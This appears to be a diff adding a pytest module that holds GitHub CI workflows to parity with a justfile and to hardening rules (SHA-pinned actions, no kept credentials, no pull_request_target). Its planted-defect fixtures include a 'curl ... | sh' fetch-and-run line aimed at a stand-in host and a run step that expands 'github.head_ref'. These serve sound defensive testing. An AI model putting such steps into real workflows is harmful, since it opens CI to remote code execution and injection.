@@ -1,0 +1,350 @@
+"""The GitHub workflows run exactly what the justfile runs, and nothing else.
+
+The parity rule: every ``run:`` step of every workflow and of the setup action is either
+``just <recipe>`` for a recipe that exists, or ``uv sync`` of dependency groups and extras that
+exist; the ``check-*`` steps of the Check workflow are exactly the dependencies of ``just check``,
+in the same order. Hardening rules ride along: every third-party action is pinned to a full commit
+SHA with a version comment, every checkout drops its credentials, and no workflow uses
+``pull_request_target``.
+
+The recipes come from ``just --dump --dump-format json`` and the groups from pyproject.toml, so the
+test follows whatever justfile the branch has. Each rule is shown to fail on a planted defect in a
+temporary copy of ``.github/``, the justfile and pyproject.toml.
+"""
+
+import json
+import re
+import shlex
+import shutil
+import subprocess
+import tomllib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+ROOT = Path(__file__).resolve().parents[1]
+CHECK_WORKFLOW = Path(".github/workflows/check.yml")
+
+PINNED = re.compile(r"^[\w.-]+/[\w.-]+(/[\w./-]+)?@[0-9a-f]{40}$")
+USES_LINE = re.compile(r"^\s*(?:-\s+)?uses:\s*(?P<ref>\S+)(?P<rest>.*)$", re.MULTILINE)
+VERSION_COMMENT = re.compile(r"^\s+#\s*v\d+(\.\d+){0,2}\s*$")
+LOCAL_PREFIXES = ("./", "$/")
+# Characters that would turn a step into a shell script rather than one command.
+SHELL_SYNTAX = re.compile(r"[;&|<>`\n]|\$\(")
+UV_SYNC_FLAGS = {"--locked", "--frozen", "--all-groups", "--all-extras", "--no-default-groups"}
+UV_SYNC_OPTIONS = {"--group": "group", "--only-group": "group", "--extra": "extra"}
+
+
+@dataclass(frozen=True)
+class Step:
+    """One step of a workflow job or of a composite action."""
+
+    where: str  # "path: job #index", for messages
+    run: str | None
+    uses: str | None
+    with_: dict[str, Any] = field(default_factory=dict)
+
+
+@dataclass(frozen=True)
+class Project:
+    """What the parity rules compare the workflows with."""
+
+    recipes: dict[str, Any]
+    check_dependencies: list[str]
+    groups: set[str]
+    extras: set[str]
+
+
+def _load(path: Path) -> dict[Any, Any]:
+    """Parse a YAML file into a mapping."""
+    data = yaml.safe_load(path.read_text(encoding="utf-8"))
+    assert isinstance(data, dict), f"{path} is not a YAML mapping"
+    return data
+
+
+def _triggers(workflow: dict[Any, Any]) -> dict[Any, Any]:
+    """Return a workflow's ``on:`` block (YAML 1.1 reads the bare key ``on`` as ``True``)."""
+    raw = workflow.get("on", workflow.get(True, {}))
+    if isinstance(raw, str):
+        return {raw: None}
+    if isinstance(raw, list):
+        return dict.fromkeys(raw)
+    assert isinstance(raw, dict)
+    return raw
+
+
+def _steps(root: Path, path: Path) -> list[Step]:
+    """Every step of a workflow (all jobs, in order) or of a composite action."""
+    data = _load(root / path)
+    blocks: list[tuple[str, list[dict[str, Any]]]]
+    if "jobs" in data:
+        blocks = [(name, job.get("steps", [])) for name, job in data["jobs"].items()]
+    else:
+        blocks = [("(action)", data["runs"].get("steps", []))]
+    return [
+        Step(
+            where=f"{path}: {job} #{index}",
+            run=step.get("run"),
+            uses=step.get("uses"),
+            with_=step.get("with") or {},
+        )
+        for job, steps in blocks
+        for index, step in enumerate(steps, start=1)
+    ]
+
+
+def _github_files(root: Path) -> list[Path]:
+    """The workflows and the composite actions, relative to the root."""
+    found = [
+        *(root / ".github/workflows").glob("*.y*ml"),
+        *(root / ".github/actions").rglob("action.y*ml"),
+    ]
+    return sorted(path.relative_to(root) for path in found)
+
+
+def _project(root: Path) -> Project:
+    """Read the recipes from ``just --dump`` and the groups and extras from pyproject.toml."""
+    dump = subprocess.run(
+        ["just", "--justfile", str(root / "justfile"), "--dump", "--dump-format", "json"],
+        cwd=root,
+        check=True,
+        capture_output=True,
+        text=True,
+    ).stdout
+    recipes: dict[str, Any] = json.loads(dump)["recipes"]
+    pyproject = tomllib.loads((root / "pyproject.toml").read_text(encoding="utf-8"))
+    return Project(
+        recipes=recipes,
+        check_dependencies=[dep["recipe"] for dep in recipes["check"]["dependencies"]],
+        groups=set(pyproject.get("dependency-groups", {})),
+        extras=set(pyproject["project"].get("optional-dependencies", {})),
+    )
+
+
+def _just_problem(words: list[str], project: Project) -> str | None:
+    """Why ``just <recipe> [args]`` is not a call of an existing recipe, or None."""
+    if len(words) < 2 or words[1].startswith("-"):
+        return "calls just without a recipe (or with flags)"
+    recipe = project.recipes.get(words[1])
+    if recipe is None:
+        return f"calls `just {words[1]}`, which the justfile does not define"
+    parameters = recipe["parameters"]
+    variadic = any(p["kind"] != "singular" for p in parameters)
+    if not variadic and len(words) - 2 > len(parameters):
+        return (
+            f"passes {len(words) - 2} arguments to `just {words[1]}`, which takes {len(parameters)}"
+        )
+    return None
+
+
+def _uv_sync_problem(words: list[str], project: Project) -> str | None:
+    """Why ``uv sync ...`` names an unknown option, group or extra, or None."""
+    args = iter(words[2:])
+    for arg in args:
+        name, _, value = arg.partition("=")
+        if name in UV_SYNC_FLAGS and not value:
+            continue
+        kind = UV_SYNC_OPTIONS.get(name)
+        if kind is None:
+            return f"uses `{arg}`, which the parity rule does not allow in `uv sync`"
+        value = value or next(args, "")
+        known = project.groups if kind == "group" else project.extras
+        if value not in known:
+            return f"syncs the {kind} `{value}`, which pyproject.toml does not define"
+    return None
+
+
+def _run_problem(command: str, project: Project) -> str | None:
+    """Why a ``run:`` step breaks the parity rule, or None when it is fine."""
+    command = command.strip()
+    if "${{" in command:
+        return "expands an expression inside `run:` (pass it through `env:` instead)"
+    if SHELL_SYNTAX.search(command):
+        return "is a shell script, not one recipe call"
+    words = shlex.split(command)
+    if words[:1] == ["just"]:
+        return _just_problem(words, project)
+    if words[:2] == ["uv", "sync"]:
+        return _uv_sync_problem(words, project)
+    return "is neither `just <recipe>` nor `uv sync`"
+
+
+def _uses_problem(ref: str) -> str | None:
+    """Why a ``uses:`` reference is not pinned to a full commit SHA, or None."""
+    if ref.startswith(LOCAL_PREFIXES) or PINNED.match(ref):
+        return None
+    return f"uses `{ref}`, which is not pinned to a full 40-hex commit SHA"
+
+
+def _version_comment_problems(path: Path, text: str) -> list[str]:
+    """Every pinned ``uses:`` line without a ``# vX.Y.Z`` comment (Dependabot keeps it current)."""
+    return [
+        f"{path}: uses `{line['ref']}` without a `# vX.Y.Z` version comment on the same line"
+        for line in USES_LINE.finditer(text)
+        if not line["ref"].startswith(LOCAL_PREFIXES) and not VERSION_COMMENT.match(line["rest"])
+    ]
+
+
+def _checkout_problem(step: Step) -> str | None:
+    """Why a checkout step keeps its credentials, or None."""
+    is_checkout = bool(step.uses and step.uses.startswith("actions/checkout@"))
+    if is_checkout and step.with_.get("persist-credentials") is not False:
+        return "checks out without `persist-credentials: false`"
+    return None
+
+
+def parity_problems(root: Path) -> list[str]:
+    """Every way the ``.github/`` tree under ``root`` breaks the parity and hardening rules."""
+    project = _project(root)
+    problems: list[str] = []
+    for path in _github_files(root):
+        text = (root / path).read_text(encoding="utf-8")
+        if "workflows" in path.parts and "pull_request_target" in _triggers(_load(root / path)):
+            problems.append(f"{path}: triggers on pull_request_target")
+        for step in _steps(root, path):
+            found = [
+                _run_problem(step.run, project) if step.run is not None else None,
+                _uses_problem(step.uses) if step.uses is not None else None,
+                _checkout_problem(step),
+            ]
+            problems += [f"{step.where} {problem}" for problem in found if problem]
+        problems += _version_comment_problems(path, text)
+
+    check_steps = [
+        shlex.split(step.run)[1]
+        for step in _steps(root, CHECK_WORKFLOW)
+        if step.run and step.run.strip().startswith("just check-")
+    ]
+    if check_steps != project.check_dependencies:
+        problems.append(
+            f"{CHECK_WORKFLOW} runs {check_steps}, but `just check` runs "
+            f"{project.check_dependencies}: same recipes, same order"
+        )
+    return problems
+
+
+def test_the_workflows_keep_the_parity_and_hardening_rules() -> None:
+    assert parity_problems(ROOT) == []
+
+
+def test_the_check_workflow_runs_every_check_recipe() -> None:
+    # Guards against a vacuous pass: the rule above compares non-empty lists.
+    project = _project(ROOT)
+    assert project.check_dependencies[0] == "check-code"
+    assert "check-workflows" in project.check_dependencies
+
+
+# ------------------------------------------------------------------ planted defects
+
+
+@pytest.fixture
+def copy(tmp_path: Path) -> Path:
+    """A throwaway copy of what the parity rules read."""
+    shutil.copytree(ROOT / ".github", tmp_path / ".github")
+    for name in ("justfile", "pyproject.toml"):
+        shutil.copy2(ROOT / name, tmp_path / name)
+    return tmp_path
+
+
+def _edit(path: str, old: str, new: str) -> Callable[[Path], None]:
+    def plant(root: Path) -> None:
+        target = root / path
+        text = target.read_text(encoding="utf-8")
+        assert old in text, f"the planted defect no longer applies to {path}: {old!r}"
+        target.write_text(text.replace(old, new, 1), encoding="utf-8")
+
+    return plant
+
+
+CHECK = ".github/workflows/check.yml"
+DEFECTS: dict[str, tuple[Callable[[Path], None], str]] = {
+    "unknown recipe": (
+        _edit(CHECK, "run: just check-code", "run: just check-cod"),
+        "does not define",
+    ),
+    "a shell command": (
+        _edit(CHECK, "run: just check-code", "run: uv run ruff check src"),
+        "is neither",
+    ),
+    "a script": (
+        _edit(CHECK, "run: just check-code", "run: just check-code && echo done"),
+        "shell script",
+    ),
+    "an expression in run": (
+        _edit(CHECK, "run: just check-code", "run: just ${{ github.head_ref }}"),
+        "expands an expression",
+    ),
+    "an unknown group": (
+        _edit(CHECK, "run: uv sync --group check", "run: uv sync --group chek"),
+        "group `chek`",
+    ),
+    "too many arguments": (
+        _edit(CHECK, "run: just check-code", "run: just check-code src"),
+        "passes 1 arguments",
+    ),
+    "steps out of order": (
+        _edit(
+            CHECK,
+            "- run: just check-code\n      - run: just check-type",
+            "- run: just check-type\n      - run: just check-code",
+        ),
+        "same recipes, same order",
+    ),
+    "a check missing from the workflow": (
+        _edit(CHECK, "      - run: just check-security\n", ""),
+        "same recipes, same order",
+    ),
+    "a check added to the justfile only": (
+        _edit(
+            "justfile",
+            "check-coverage check-workflows",
+            "check-coverage check-slow check-workflows",
+        ),
+        "same recipes, same order",
+    ),
+    "a tag instead of a SHA": (
+        _edit(
+            CHECK,
+            "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1",
+            "actions/checkout@v7",
+        ),
+        "not pinned",
+    ),
+    "a SHA without its version comment": (
+        _edit(
+            CHECK,
+            "3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1",
+            "3d3c42e5aac5ba805825da76410c181273ba90b1",
+        ),
+        "version comment",
+    ),
+    "credentials kept": (
+        _edit(CHECK, "persist-credentials: false", "persist-credentials: true"),
+        "persist-credentials",
+    ),
+    "pull_request_target": (
+        _edit(CHECK, "  pull_request:\n", "  pull_request_target:\n"),
+        "pull_request_target",
+    ),
+    "a script in the setup action": (
+        _edit(
+            ".github/actions/setup/action.yml",
+            "  steps:\n",
+            "  steps:\n    - run: curl -sSf https://example.invalid | sh\n      shell: bash\n",
+        ),
+        "(action)",
+    ),
+}
+
+
+@pytest.mark.parametrize("defect", DEFECTS)
+def test_a_planted_defect_is_reported(defect: str, copy: Path) -> None:
+    assert parity_problems(copy) == [], "the copy must start clean"
+    plant, evidence = DEFECTS[defect]
+    plant(copy)
+    problems = parity_problems(copy)
+    assert any(evidence in problem for problem in problems), problems
